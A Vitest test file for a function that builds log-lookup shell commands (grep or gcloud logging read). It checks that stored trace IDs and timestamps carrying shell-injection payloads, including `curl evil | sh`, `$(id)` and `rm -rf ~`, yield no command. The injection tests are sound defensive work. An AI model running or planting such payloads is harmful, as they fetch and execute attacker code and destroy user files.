import { describe, expect, it } from 'vitest';
import { BLOCKED, PASSED } from '../../fixtures/verdict-documents.ts';
import { logQuery } from './log-query.ts';

describe('the log query', () => {
  it.each(['ws://localhost:1/ws', 'ws://127.0.0.9:1/ws', 'ws://[::1]:1/ws', 'ws://app.localhost/ws'])(
    'of %s looks in a file',
    (wsUrl) => {
      expect(logQuery({ ...PASSED, target: { ...PASSED.target, wsUrl } })).toBe(
        'grep -F 4bf92f3577b34da6a3ce929d0e0e4736 TARGET.log',
      );
    },
  );

  it('of a remote target asks its platform, from the start of the run', () => {
    expect(logQuery(BLOCKED)).toBe(
      `gcloud logging read 'trace:"4bf92f3577b34da6a3ce929d0e0e4736" AND timestamp>="2026-01-02T03:04:05.678Z"'`,
    );
  });

  it('is none without a trace', () => {
    expect(logQuery({ ...BLOCKED, traceId: null })).toBeNull();
  });

  it.each([
    { traceId: `x"'; curl evil | sh #` },
    { traceId: '4bf92f3577b34da6a3ce929d0e0e4736\nrm' },
    { traceId: '$(id)bf92f3577b34da6a3ce929d0e0e' },
    { startedAt: `2026'; rm -rf ~ #` },
    { startedAt: 'yesterday' },
  ])('is none where a stored timeline would put words into a shell: %j', (stored) => {
    expect(logQuery({ ...BLOCKED, ...stored })).toBeNull();
    expect(logQuery({ ...PASSED, ...stored })).toBeNull();
  });
});
